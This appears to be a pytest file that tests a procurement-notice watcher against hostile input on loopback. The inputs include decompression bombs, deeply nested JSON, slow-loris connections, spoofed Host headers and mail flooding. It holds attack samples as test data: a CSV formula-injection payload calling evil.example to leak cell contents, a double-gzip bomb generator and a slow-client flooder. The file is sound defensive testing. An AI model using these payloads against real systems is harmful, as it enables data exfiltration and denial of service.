"""Hostile input and faults, round 3 (issue 26): every bound holds on loopback, one test per row of
the issue's table (memory, disk, mail, connections, records that cannot be read)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import gzip
import http.client
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
import tracemalloc
import zlib
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, event, inspect, select, text
from starlette.testclient import TestClient

from tests.helpers import BoampPortal, migrate_to, runtime_env
from tests.loopback import LoopbackServer, Reply, Request
from tests.mailbox import Mailbox
from tests.test_documents import DocsPortal, documents, set_notice, sync
from tests.test_hostile_disk import _fill, _mount_tmpfs
from tests.test_pipeline import sources_yaml
from tests.test_timeline import award
from watcher.cli import main
from watcher.db.models import Notice, SourceState
from watcher.db.session import make_engine, shipped_head, upgrade
from watcher.errors import StorageError, TooLargeError
from watcher.notify import deliver_pending
from watcher.notify.subscribers import Filters, add_confirmed
from watcher.pipeline.breaker import breaker_open
from watcher.pipeline.cycle import after_polls
from watcher.pipeline.poll import run_source, run_sources
from watcher.pipeline.runtime import Runtime
from watcher.pipeline.scheduler import first_run
from watcher.records import RunResult
from watcher.sources.http import Fetcher
from watcher.web.server import create_app

MiB = 1024 * 1024
PG = bool(os.environ.get("WATCHER_TEST_DATABASE_URL"))
FIXTURES = Path(__file__).parent / "fixtures"
HTML = {"Content-Type": "text/html; charset=utf-8"}


def double_gzip(size: int) -> bytes:
    """`size` zero bytes, gzipped twice: a few kB that declare `size` bytes (`gzip, gzip`)."""
    inner = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    block = bytes(MiB)
    parts = [inner.compress(block) for _ in range(size // MiB)]
    parts.append(inner.flush())
    return gzip.compress(b"".join(parts), 9)


def _peak(call: Callable[[], object]) -> tuple[int, object]:
    tracemalloc.start()
    try:
        try:
            result: object = call()
        except Exception as exc:  # noqa: BLE001 - the test looks at what was raised
            result = exc
        return tracemalloc.get_traced_memory()[1], result
    finally:
        tracemalloc.stop()


# Row 1: `Content-Encoding: gzip, gzip`, from a portal page or a document link.


def test_row1_double_gzip_answer_is_cut_at_the_cap_with_little_memory() -> None:
    body = double_gzip(256 * MiB)
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip, gzip"}
    with LoopbackServer(lambda _r: Reply(200, body, headers)) as server, httpx.Client() as client:
        fetcher = Fetcher(client, max_bytes=20 * MiB, retries=0)
        peak, result = _peak(lambda: fetcher.get(server.url + "/page"))
    assert isinstance(result, TooLargeError), result
    assert "once decompressed" in str(result)
    assert peak < 40 * MiB, f"peak {peak / MiB:.0f} MiB"


@pytest.mark.parametrize(
    "coding", ["gzip", "deflate", "gzip, gzip", "deflate, gzip", "gzip,identity, x-gzip"]
)
def test_row1_encoded_answers_still_read_whole(coding: str) -> None:
    payload = b'{"results": [' + b'"x", ' * 50_000 + b'"y"]}'
    body = payload
    for name in (c.strip() for c in coding.split(",")):
        if name in {"gzip", "x-gzip"}:
            body = gzip.compress(body)
        elif name == "deflate":
            body = zlib.compress(body)
    headers = {"Content-Type": "application/json", "Content-Encoding": coding}
    with LoopbackServer(lambda _r: Reply(200, body, headers)) as server, httpx.Client() as client:
        data = Fetcher(client, retries=0).get_json(server.url + "/page")
    assert len(data["results"]) == 50_001


def test_row1_double_gzip_document_is_refused_as_too_large(
    make_runtime: Callable[..., Runtime], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WATCHER_FETCH_ALLOW", "127.0.0.0/8")
    handler = DocsPortal()
    handler.files["/docs/bomb.pdf"] = (
        double_gzip(64 * MiB),
        {"Content-Type": "application/pdf", "Content-Encoding": "gzip, gzip"},
    )
    with LoopbackServer(handler) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: boamp, kind: boamp, base_url: '{server.url}'}}\n"
        )
        set_notice(runtime, "26-100", [f"{server.url}/docs/bomb.pdf"])
        peak, _report = _peak(lambda: sync(runtime, max_bytes=5 * MiB))
    assert documents(runtime)["bomb.pdf"].last_error is not None
    assert "larger than" in (documents(runtime)["bomb.pdf"].last_error or "")
    assert peak < 40 * MiB, f"peak {peak / MiB:.0f} MiB"


# Row 4: a record with a date at year 1 or 9999 with an offset, or a field nested ~1,000 levels.

Y1 = "0001-01-01T00:00:00+00:00"
Y9999 = "9999-12-31T23:59:59-05:00"
DEEP = "__DEEP__"


def _nested(document: object, depth: int = 1000) -> bytes:
    """`document` as JSON with `DEEP` replaced by an object nested `depth` levels."""
    text = json.dumps(document).replace(f'"{DEEP}"', '{"a":' * depth + '"x"' + "}" * depth)
    return text.encode()


def _dates(node: object, value: str) -> None:
    """Every date-like string of an OCDS release set to `value`."""
    if isinstance(node, dict):
        for key, inner in node.items():
            if isinstance(inner, str) and (key.lower().endswith("date") or key == "date"):
                node[key] = value
            else:
                _dates(inner, value)
    elif isinstance(node, list):
        for inner in node:
            _dates(inner, value)


def _poll(runtime: Runtime) -> RunResult:
    [result] = run_sources(runtime.config.build(), runtime.context())
    return result


def _stored(runtime: Runtime) -> dict[str, Notice]:
    with runtime.sessions() as session:
        return {n.native_id: n for n in session.scalars(select(Notice))}


def _kept(runtime: Runtime, source: str) -> list[str]:
    where = runtime.settings.data_dir / "unreadable" / source
    return [p.read_text("utf-8") for p in sorted(where.glob("*.txt"))] if where.exists() else []


@pytest.mark.parametrize("date", [Y1, Y9999])
def test_row4_boamp_date_out_of_range_is_a_doubt_not_a_failed_poll(
    make_runtime: Callable[..., Runtime], date: str
) -> None:
    portal = BoampPortal()
    portal.records[0]["datelimitereponse"] = date  # BOAMP's top-level deadline field
    portal.records[0]["donnees"] = None  # ... the one read when `donnees` says nothing
    portal.records[1]["dateparution"] = date[:10]
    with LoopbackServer(portal) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: boamp, kind: boamp, base_url: '{server.url}'}}\n"
        )
        result = _poll(runtime)
    assert result.ok, result.error
    stored = _stored(runtime)
    assert len(stored) == len(portal.records)
    first = stored[portal.records[0]["idweb"]]
    assert first.deadline is None
    assert "unreadable date" in " ".join(first.snapshot["flags"])


def test_row4_boamp_record_nested_1000_levels_is_skipped_counted_and_kept(
    make_runtime: Callable[..., Runtime],
) -> None:
    records = BoampPortal().records
    records[0]["extra"] = DEEP
    body = _nested({"total_count": len(records), "results": records})
    with LoopbackServer(lambda _r: Reply(200, body)) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: boamp, kind: boamp, base_url: '{server.url}'}}\n"
        )
        result = _poll(runtime)
    assert result.ok, result.error
    assert result.unreadable == 1
    assert "unreadable" in result.summary()
    assert set(_stored(runtime)) == {r["idweb"] for r in records[1:]}
    [evidence] = _kept(runtime, "boamp")
    assert records[0]["idweb"] in evidence and "RecursionError" in evidence
    assert '{"a":' * 999 in evidence


TED_DATES = ("publication-date", "deadline-receipt-tender-date-lot", "deadline-date-lot")


@pytest.mark.parametrize("date", ["0001-01-01+00:00", "9999-12-31-05:00", "0001-01-01"])
def test_row4_ted_date_out_of_range_is_an_unreadable_date_doubt(
    make_runtime: Callable[..., Runtime], date: str
) -> None:
    notices = json.loads((FIXTURES / "ted" / "search_page1.json").read_text("utf-8"))["notices"]
    first = notices[0]
    for key in list(first):
        if key in TED_DATES or key.startswith("deadline"):
            first[key] = [date] if isinstance(first[key], list) else date
    notices[1]["extra"] = DEEP
    body = _nested({"notices": notices, "totalNoticeCount": len(notices)})
    with LoopbackServer(lambda _r: Reply(200, body)) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: ted, kind: ted, base_url: '{server.url}', min_interval: 0}}\n"
        )
        result = _poll(runtime)
    assert result.ok, result.error
    assert result.unreadable == 1  # the nested one
    stored = _stored(runtime)
    notice = stored[first["publication-number"]]
    assert notice.deadline is None
    assert any(f.startswith("unreadable date") for f in notice.snapshot.get("flags", []))
    assert notices[1]["publication-number"] not in stored
    assert len(stored) == len(notices) - 1


@pytest.mark.parametrize("kind", ["find_a_tender", "contracts_finder"])
@pytest.mark.parametrize("date", [Y1, Y9999])
def test_row4_ocds_portals_date_out_of_range_and_deep_nesting(
    make_runtime: Callable[..., Runtime], kind: str, date: str
) -> None:
    page = "packages_page1.json" if kind == "find_a_tender" else "search_page1.json"
    package = json.loads((FIXTURES / kind / page).read_text("utf-8"))
    package["links"] = {}
    releases = package["releases"]
    _dates(releases[0], date)
    releases[-1]["extra"] = DEEP
    body = _nested(package)
    with LoopbackServer(lambda _r: Reply(200, body)) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: p, kind: {kind}, base_url: '{server.url}'}}\n"
        )
        result = _poll(runtime)
    assert result.ok, result.error
    assert result.unreadable >= 1
    flagged = [n for n in _stored(runtime).values() if n.snapshot.get("flags")]
    assert flagged and all(
        any(f.startswith("unreadable date") for f in n.snapshot["flags"]) for n in flagged
    )
    assert _kept(runtime, "p")


def test_row4_html_page_published_at_year_1(make_runtime: Callable[..., Runtime]) -> None:
    page = (FIXTURES / "html" / "list.html").read_text("utf-8")
    page = page.replace("Publié le 2 mars 2026", "Publié le 01/01/0001")
    page = page.replace("15/04/2026 à 12h00", "31/12/9999 à 23h59")
    with LoopbackServer(lambda _r: Reply(200, page.encode(), HTML)) as server:
        runtime = make_runtime(
            "sources:\n  - name: prefecture\n    kind: html\n"
            f"    list_urls: ['{server.url}/avis']\n"
            "    item: li.avis\n"
            "    fields: {id: '@data-ref', title: h2.titre a, link: h2.titre a@href,"
            " published: p.publication, deadline: p.limite, buyer: p.acheteur}\n"
        )
        result = _poll(runtime)
    assert result.ok, result.error
    stored = _stored(runtime)
    assert set(stored) == {"PREF59-2026-014", "PREF59-2026-015"}


# Row 3: 1,100 connections that send one byte every few seconds to `watcher serve`.


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _limit_files() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))  # the usual limit


def start_server(
    runtime: Runtime, *, scheduler: bool = False, **env: str
) -> tuple[subprocess.Popen[bytes], int]:
    """`watcher serve --no-scheduler` on a free port, with 1,024 open files at most; waits
    until `/healthz` answers."""
    port = _free_port()
    runtime.engine  # noqa: B018 - migrated before the server starts
    server = subprocess.Popen(
        [sys.executable, "-m", "watcher", "serve", "--port", str(port)]
        + ([] if scheduler else ["--no-scheduler"]),
        env=runtime_env(runtime, inherit=True, **env),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        preexec_fn=_limit_files,
    )
    deadline = time.monotonic() + 60
    while probe(port) is None:
        assert server.poll() is None, (server.stderr.read() if server.stderr else b"").decode()
        assert time.monotonic() < deadline, "the server did not start"
        time.sleep(0.2)
    return server, port


def probe(port: int, timeout: float = 5.0) -> float | None:
    """Seconds `/healthz` took to answer 200 on a new connection; None when it did not."""
    started = time.perf_counter()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("GET", "/healthz")
        answer = conn.getresponse()
        answer.read()
        return time.perf_counter() - started if answer.status == 200 else None
    except OSError:
        return None
    finally:
        conn.close()


class SlowClients:
    """`count` connections, each sending a request head one byte every `every` seconds."""

    HEAD = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 200

    def __init__(self, port: int, count: int, every: float) -> None:
        self.port, self.every = port, every
        self.socks: list[socket.socket] = []
        for _ in range(count):
            sock = socket.socket()
            sock.setblocking(False)
            sock.connect_ex(("127.0.0.1", port))
            self.socks.append(sock)
        self.closed_by_server = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._drip, daemon=True)

    def _drip(self) -> None:
        sent = 0
        while not self._stop.wait(self.every):
            byte = self.HEAD[sent % len(self.HEAD) : sent % len(self.HEAD) + 1]
            sent += 1
            for sock in list(self.socks):
                try:
                    sock.send(byte)
                except BlockingIOError:
                    pass
                except OSError:
                    self.closed_by_server += 1
                    self.socks.remove(sock)
                    sock.close()

    def __enter__(self) -> SlowClients:
        self._thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self._stop.set()
        self._thread.join(10)
        for sock in self.socks:
            sock.close()


def test_row3_healthz_answers_in_under_a_second_under_1100_slow_connections(
    make_runtime: Callable[..., Runtime],
) -> None:
    runtime = make_runtime("sources: []\n")
    server, port = start_server(runtime, WATCHER_SERVE_READ_TIMEOUT="4")
    try:
        with SlowClients(port, 1100, every=1.0) as slow:
            time.sleep(2.0)  # every slow connection is in
            times = []
            for _ in range(6):
                times.append(probe(port, timeout=3.0))
                time.sleep(0.5)
            time.sleep(3.0)  # past WATCHER_SERVE_READ_TIMEOUT: the slow ones are closed
            closed = slow.closed_by_server
    finally:
        server.send_signal(signal.SIGTERM)
        server.communicate(timeout=30)
    assert all(t is not None and t < 1.0 for t in times), times
    assert closed >= 1000, closed


# Row 2: one award notice whose winner list has thousands of names.


def many_winners_notice(count: int) -> dict[str, Any]:
    """The TED Loon-Plage tender (relevant) as an award naming `count` winners (`winner-name`)."""
    notices = json.loads((FIXTURES / "ted" / "search_page1.json").read_text("utf-8"))["notices"]
    notice = next(n for n in notices if n["publication-number"] == "612845-2025")
    notice = {**notice, "publication-number": "800001-2026", "notice-type": "can-standard"}
    notice["form-type"] = "result"
    notice["winner-name"] = {"fra": [_company_name(n) for n in range(count)]}
    return notice


def _company_name(n: int) -> str:
    """A distinct company name per `n` (letters, since names are compared without digits)."""
    word = ""
    for _ in range(3):
        n, letter = divmod(n, 26)
        word += chr(ord("a") + letter)
    return f"Société {word.capitalize()} Bâtiment et Services SAS"


def ted_yaml(url: str) -> str:
    return f"sources:\n  - {{name: ted, kind: ted, base_url: '{url}', min_interval: 0}}\n"


def run_once_cli(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> float:
    for key, value in runtime_env(runtime).items():
        monkeypatch.setenv(key, value)
    started = time.perf_counter()
    result = CliRunner().invoke(main, ["run", "--once"])
    assert result.exit_code == 0, result.output
    return time.perf_counter() - started


def tree_bytes(folder: Path) -> tuple[int, int]:
    files = [p for p in folder.rglob("*") if p.is_file()]
    return len(files), sum(p.stat().st_size for p in files)


def test_row2_a_notice_with_1500_winners_is_cut_and_costs_little_disk(
    make_runtime: Callable[..., Runtime], monkeypatch: pytest.MonkeyPatch
) -> None:
    notice = many_winners_notice(1500)
    body = json.dumps({"notices": [notice], "totalNoticeCount": 1}).encode()
    with LoopbackServer(lambda _r: Reply(200, body)) as server:
        runtime = make_runtime(ted_yaml(server.url))
        seconds = run_once_cli(runtime, monkeypatch)
    files, size = tree_bytes(runtime.settings.data_dir / "feeds")
    assert size < 20 * MiB, f"{files} files, {size / MiB:.0f} MiB"
    assert seconds < 10, seconds
    stored = _stored(runtime)["800001-2026"]
    assert len(stored.snapshot["winners"]) == 100  # WATCHER_NOTICE_MAX_WINNERS default
    assert "cut: 1500 winners, the first 100 kept" in stored.snapshot["flags"]


# Row 6: winner names that a spreadsheet would run as formulas, in `/companies.csv`.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+SUM(1;2) Nettoyage SARL",
    "-2+3 Services SAS",
    "@CMD Gardiennage",
]


def test_row6_companies_csv_cells_never_start_a_formula(
    make_runtime: Callable[..., Runtime],
) -> None:
    portal = BoampPortal()
    with LoopbackServer(portal) as server:
        runtime = make_runtime(sources_yaml(server.url))
        sources = runtime.config.build()
        after_polls(runtime, run_sources(sources, runtime.context()))
        record = award(portal.records[0])
        record["titulaire"] = FORMULAS
        portal.records.append(record)
        after_polls(runtime, run_sources(sources, runtime.context()))
    with TestClient(create_app(runtime)) as client:
        table = client.get("/companies.csv")
    rows = list(csv.reader(StringIO(table.text)))[1:]
    names = {row[1] for row in rows}
    assert {"'" + name for name in FORMULAS} <= names, names
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), row


# Row 10: ids of thousands of digits, or with thousands of leading zeros.

HUGE_IDS = ["9" * 5000, "0" * 5000 + "1", "0" * 4400, "1" + "0" * 4301]


@pytest.mark.parametrize("number", HUGE_IDS, ids=["9x5000", "zeros+1", "zeros", "10^4301"])
def test_row10_huge_ids_answer_404_without_a_traceback(
    make_runtime: Callable[..., Runtime], caplog: pytest.LogCaptureFixture, number: str
) -> None:
    runtime = make_runtime("sources: []\n")
    paths = [
        f"/notices/{number}",
        f"/notices/{number}/versions/1/raw",
        f"/notices/1/versions/{number}/raw",
        f"/api/notices/{number}",
        f"/api/procedures/{number}.ocds.json",
    ]
    with TestClient(create_app(runtime), raise_server_exceptions=False) as client:
        answers = {n: client.get(path).status_code for n, path in enumerate(paths)}
    assert set(answers.values()) == {404}, answers
    assert not [r for r in caplog.records if r.exc_info or r.levelname == "ERROR"]


# Row 14: `Host: evil.example` on `/subscribe/`.


def test_row14_host_header_never_makes_a_redirect_or_an_origin_trusted(
    make_runtime: Callable[..., Runtime],
) -> None:
    runtime = make_runtime("sources: []\n")  # WATCHER_BASE_URL https://watcher.example
    with TestClient(create_app(runtime), follow_redirects=False) as client:
        moved = client.get("/subscribe/", headers={"Host": "evil.example"})
        posted = client.post(
            "/subscribe",
            data={"email": "victim@example.org"},
            headers={"Host": "evil.example", "Origin": "http://evil.example"},
        )
        ours = client.post(
            "/subscribe",
            data={"email": "reader@example.org"},
            headers={"Origin": "https://watcher.example"},
        )
    assert moved.status_code in {301, 302, 307, 308}
    assert moved.headers["location"] == "https://watcher.example/subscribe"
    assert posted.status_code == 403
    assert ours.status_code != 403  # (503 here: no mail server is set up)


# Row 7: `kill -9` during `watcher db upgrade` on SQLite, and what older releases left behind.


def _revision(engine: Engine) -> str | None:
    with engine.connect() as conn:
        return conn.execute(text("SELECT version_num FROM alembic_version")).scalar()


def test_row7_a_migration_stopped_midway_leaves_the_previous_schema(database_url: str) -> None:
    engine = make_engine(database_url)
    migrate_to(engine, "0007")

    def die(_conn: object, _cursor: object, statement: str, *_args: object) -> None:
        if "CREATE INDEX" in statement and "company_contracts" in statement:
            raise RuntimeError("killed")  # after `companies` was created, inside 0008

    event.listen(Engine, "before_cursor_execute", die)
    try:
        with pytest.raises(RuntimeError, match="killed"):
            upgrade(engine)
    finally:
        event.remove(Engine, "before_cursor_execute", die)
    try:
        assert _revision(engine) == "0007"
        assert "companies" not in inspect(engine).get_table_names()
        assert upgrade(engine) is True  # and the next start just migrates
        assert "companies" in inspect(engine).get_table_names()
    finally:
        engine.dispose()


sqlite_only = pytest.mark.skipif(bool(PG), reason="half-migrated databases come from SQLite")


@sqlite_only
def test_row7_half_migrated_database_of_an_older_release_is_repaired(database_url: str) -> None:
    engine = make_engine(database_url)
    migrate_to(engine, "0008")
    with engine.begin() as conn:  # what 0008 killed midway left: its tables, 0007's record
        conn.execute(text("UPDATE alembic_version SET version_num = '0007'"))
        conn.execute(text('CREATE TABLE "_alembic_tmp_subscribers" (id INTEGER)'))
    try:
        assert upgrade(engine) is True
        assert _revision(engine) == shipped_head()
        assert "_alembic_tmp_subscribers" not in inspect(engine).get_table_names()
    finally:
        engine.dispose()


@sqlite_only
def test_row7_first_upgrade_killed_midway_is_repaired(database_url: str) -> None:
    engine = make_engine(database_url)
    migrate_to(engine, "0003")
    with engine.begin() as conn:  # tables without a migration record: "no migration record"
        conn.execute(text("DROP TABLE alembic_version"))
    try:
        assert upgrade(engine) is True
        assert _revision(engine) == shipped_head()
    finally:
        engine.dispose()


@sqlite_only
def test_row7_tables_with_rows_are_never_dropped(database_url: str) -> None:
    engine = make_engine(database_url)
    migrate_to(engine, "0003")
    with engine.begin() as conn:
        conn.execute(text("DROP TABLE alembic_version"))
        conn.execute(
            text(
                "INSERT INTO sources (name, kind, consecutive_failures, created_at)"
                " VALUES ('s', 'boamp', 0, '2026-12-01 08:00:00')"
            )
        )
    try:
        with pytest.raises(StorageError, match="no migration record"):
            upgrade(engine)
        with engine.connect() as conn:
            assert conn.execute(text("SELECT count(*) FROM sources")).scalar() == 1
    finally:
        engine.dispose()


# Row 15: a YAML syntax error in `companies.yaml`.


@pytest.mark.parametrize("command", ["check", "refresh"])
def test_row15_companies_yaml_syntax_error_is_one_line(
    make_runtime: Callable[..., Runtime], monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    runtime = make_runtime("sources: []\n")
    runtime.engine  # noqa: B018 - migrated
    path = runtime.settings.sources.parent / "companies.yaml"
    path.write_text("companies:\n  spie:\n    name: [SPIE\n  other: {\n", encoding="utf-8")
    for key, value in runtime_env(runtime).items():
        monkeypatch.setenv(key, value)
    result = CliRunner().invoke(main, ["companies", command])
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert f"error: {path}: line " in result.output
    assert "YAML does not parse" in result.output


# Row 16: a poll that fails and rolls back.


def test_row16_a_failed_poll_reports_nothing_stored(
    make_runtime: Callable[..., Runtime], monkeypatch: pytest.MonkeyPatch
) -> None:
    portal = BoampPortal()
    model = portal.records[0]
    portal.records = [{**model, "idweb": f"26-{n:06d}"} for n in range(150)]

    def first_page_then_broken(request: Request) -> Reply:
        if int(request.param("offset", "0") or 0) >= 100:
            return Reply(200, b"<html>maintenance</html>", HTML)
        return portal(request)

    with LoopbackServer(first_page_then_broken) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: boamp, kind: boamp, base_url: '{server.url}', page_size: 100}}\n"
        )
        [result] = run_sources(runtime.config.build(), runtime.context())
        for key, value in runtime_env(runtime).items():
            monkeypatch.setenv(key, value)
        output = CliRunner().invoke(main, ["run", "--once"]).output
    assert not result.ok
    assert (result.new, result.changed, result.events) == (0, 0, 0)
    assert _stored(runtime) == {}
    assert "; 0 new, 0 changed, 0 event(s)" in output, output


# Row 13: `kill -9` during `watcher backup` left its full-size temporary file forever.


def test_row13_a_killed_backups_temporary_file_is_swept(
    make_runtime: Callable[..., Runtime], tmp_path: Path
) -> None:
    runtime = make_runtime("sources: []\n")
    runtime.engine  # noqa: B018 - migrated
    out = tmp_path / "backups" / "watcher.backup"
    out.parent.mkdir()
    killed = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    killed.send_signal(signal.SIGKILL)  # a backup killed midway: its pid is gone
    killed.wait()
    left = out.with_name(f".{out.name}.{killed.pid}.tmp")
    left.write_bytes(b"\0" * MiB)
    running = out.with_name(f".{out.name}.{os.getpid()}.tmp")  # a backup still running
    running.write_bytes(b"x")
    env = runtime_env(runtime, inherit=True)
    done = subprocess.run(
        [sys.executable, "-m", "watcher", "backup", "--out", str(out)],
        env=env,
        capture_output=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert out.exists()
    assert not left.exists()
    assert running.exists()


# Row 12: a forward clock jump of 400 days, then failures, then the right time again.


def test_row12_a_clock_that_jumped_forward_does_not_rest_a_source_for_a_year(
    make_runtime: Callable[..., Runtime],
) -> None:
    portal = BoampPortal()
    broken = {"now": True}

    def handler(request: Request) -> Reply:
        return Reply(503, b"busy") if broken["now"] else portal(request)

    today = dt.datetime(2026, 12, 5, 8, 0, tzinfo=dt.UTC)
    jumped = today + dt.timedelta(days=400)
    with LoopbackServer(handler) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: boamp, kind: boamp, base_url: '{server.url}'}}\n",
            http_retries=0,
        )
        [source] = runtime.config.build()
        at_jump = dataclasses.replace(runtime.context(), clock=lambda: jumped)
        for _ in range(4):  # failures dated 400 days ahead: the breaker opens
            run_source(source, at_jump, breaker=True)
        assert breaker_open_for(runtime, jumped)
        broken["now"] = False
        back = dataclasses.replace(runtime.context(), clock=lambda: today + dt.timedelta(hours=1))
        result = run_source(source, back, breaker=True, fresh_for=dt.timedelta(minutes=50))
        assert result.skipped is None and result.ok, result
        assert result.new == len(portal.records)  # asked from now, not from 400 days ahead
    assert first_run("2h", jumped, today) == today


def breaker_open_for(runtime: Runtime, now: dt.datetime) -> bool:
    with runtime.sessions() as session:
        state = session.scalar(select(SourceState))
        return state is not None and breaker_open(state, now) is not None


# Row 11: Gmail dot spellings of one address; posts straddling the hour.


def _dotted(local: str, n: int) -> str:
    """The `n`-th dot spelling of `local` (`v.ictim`, `vi.ctim`, `v.i.ctim`, …)."""
    out = local[0]
    for i, letter in enumerate(local[1:]):
        out += ("." if n >> i & 1 else "") + letter
    return out


def test_row11_gmail_dot_spellings_share_the_per_mailbox_limit(
    make_runtime: Callable[..., Runtime], mailbox: Mailbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WATCHER_SMTP_URL", mailbox.url)
    runtime = make_runtime("sources: []\n")
    spellings = [f"{_dotted('victimname', n)}@gmail.com" for n in range(1, 27)]
    spellings.append("victimname@googlemail.com")
    app = create_app(runtime)
    for n, address in enumerate(spellings):  # each from its own client: no per-client limit
        with TestClient(app, client=(f"198.51.100.{n + 1}", 4242)) as client:
            client.post("/subscribe", data={"email": address})
    inbox = [
        m for rcpts, m in mailbox.received if any("victimname" in r.replace(".", "") for r in rcpts)
    ]
    assert len(inbox) <= 3, len(inbox)  # WATCHER_SUBSCRIBE_PER_ADDRESS's default


def test_row11_posts_straddling_the_hour_count_together(
    make_runtime: Callable[..., Runtime], mailbox: Mailbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    import watcher.web.subscribe as subscribe_module  # noqa: PLC0415

    monkeypatch.setenv("WATCHER_SMTP_URL", mailbox.url)
    runtime = make_runtime("sources: []\n")
    moments = iter(
        [dt.datetime(2026, 12, 5, 10, 59, 50, tzinfo=dt.UTC)] * 10
        + [dt.datetime(2026, 12, 5, 11, 0, 11, tzinfo=dt.UTC)] * 10
    )
    now = {"at": dt.datetime(2026, 12, 5, 10, 59, 50, tzinfo=dt.UTC)}
    monkeypatch.setattr(subscribe_module, "utcnow", lambda: now["at"])
    codes = []
    with TestClient(create_app(runtime), client=("203.0.113.9", 4242)) as client:
        for n, moment in enumerate(moments):
            now["at"] = moment
            codes.append(client.post("/subscribe", data={"email": f"p{n}@example.org"}).status_code)
    assert codes.count(429) >= 10, codes  # 20 posts in 21 s: the second ten are over the limit
    assert len(mailbox.received) <= 10


# Row 5: an `html` page with 300 relevant items, ids renamed at each poll.


def relevant_list(count: int, round_: int) -> bytes:
    """A prefecture's list of `count` notices about the Lesquin CRA, ids new at each `round_`."""
    items = "".join(
        f'<li class="avis" data-ref="R{round_}-{n}"><h2 class="titre"><a href="/a/{round_}/{n}">'
        f"Nettoyage du centre de rétention administrative de Lesquin, lot {n}</a></h2>"
        '<span class="acheteur">SGAMI Nord</span></li>'
        for n in range(count)
    )
    return f"<html><body><ul>{items}</ul></body></html>".encode()


def html_yaml(url: str) -> str:
    return (
        "sources:\n  - name: prefecture\n    kind: html\n"
        f"    list_urls: ['{url}/avis']\n"
        "    item: li.avis\n"
        "    fields: {id: '@data-ref', title: h2.titre a, link: h2.titre a@href,"
        " buyer: span.acheteur}\n"
    )


def flood(runtime: Runtime, rounds: int) -> list[int]:
    """Mails to one subscriber after each of `rounds` polls of a 300-item page."""
    page = {"round": 0}

    def handler(_request: Request) -> Reply:
        return Reply(200, relevant_list(300, page["round"]), HTML)

    counts = []
    with LoopbackServer(handler) as server:
        runtime.settings.sources.write_text(html_yaml(server.url), encoding="utf-8")
        with runtime.sessions() as session, session.begin():
            add_confirmed(session, "reader@example.org", Filters(), dt.datetime.now(dt.UTC))
        for n in range(rounds):
            page["round"] = n
            [result] = run_sources(runtime.config.build(), runtime.context())
            assert result.ok and result.events == 300, result
            report = deliver_pending(runtime)
            counts.append(report.messages)
    return counts


def test_row5_300_alerts_at_once_make_20_mails_and_one_that_says_280_more(
    make_runtime: Callable[..., Runtime], mailbox: Mailbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WATCHER_SMTP_URL", mailbox.url)
    runtime = make_runtime("sources: []\n")
    counts = flood(runtime, rounds=2)
    assert counts == [21, 21], counts  # 20 alone (WATCHER_ALERTS_PER_ROUND) + one for the rest
    mails = mailbox.to("reader@example.org")
    assert len(mails) == 42
    more = [m for m in mails if "280" in str(m["Subject"])]
    assert len(more) == 2, [str(m["Subject"]) for m in mails]
    text = more[0].get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert "280" in text and "https://watcher.example/" in text


# Row 17: a full data disk.


def test_row17_watcher_serve_starts_on_a_full_disk_and_serves_what_it_has(
    portal: tuple[BoampPortal, LoopbackServer],
    make_runtime: Callable[..., Runtime],
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    on_disk = {} if PG else {"database_url": f"sqlite:///{data}/watcher.sqlite3"}
    runtime = make_runtime(sources_yaml(portal[1].url), data_dir=data, **on_disk)
    if not _mount_tmpfs(data, "16m"):
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        first = CliRunner().invoke(main, ["run", "--once"], env=runtime_env(runtime))
        assert first.exit_code == 0, first.output
        with runtime.sessions() as session:
            notice_id = session.scalar(select(Notice.id).where(Notice.relevant).limit(1))
        runtime.engine.dispose()  # the WAL checkpointed and gone: opening must create it
        fd = os.open(data / "filler", os.O_WRONLY | os.O_CREAT)
        try:
            with pytest.raises(OSError, match="No space left"):
                _fill(fd)
        finally:
            os.close(fd)
        server, port = start_server(runtime, scheduler=True)
        try:
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            conn.request("GET", f"/notices/{notice_id}")
            page = conn.getresponse()
            body = page.read().decode()
            conn.close()
        finally:
            server.send_signal(signal.SIGTERM)
            _out, err = server.communicate(timeout=30)
        assert page.status == 200, body[:300]
        assert "Traceback" not in err.decode()
    finally:
        subprocess.run(["umount", "-l", str(data)], check=False)


# Row 8: a huge `html` list and a huge RSS feed in one poll.


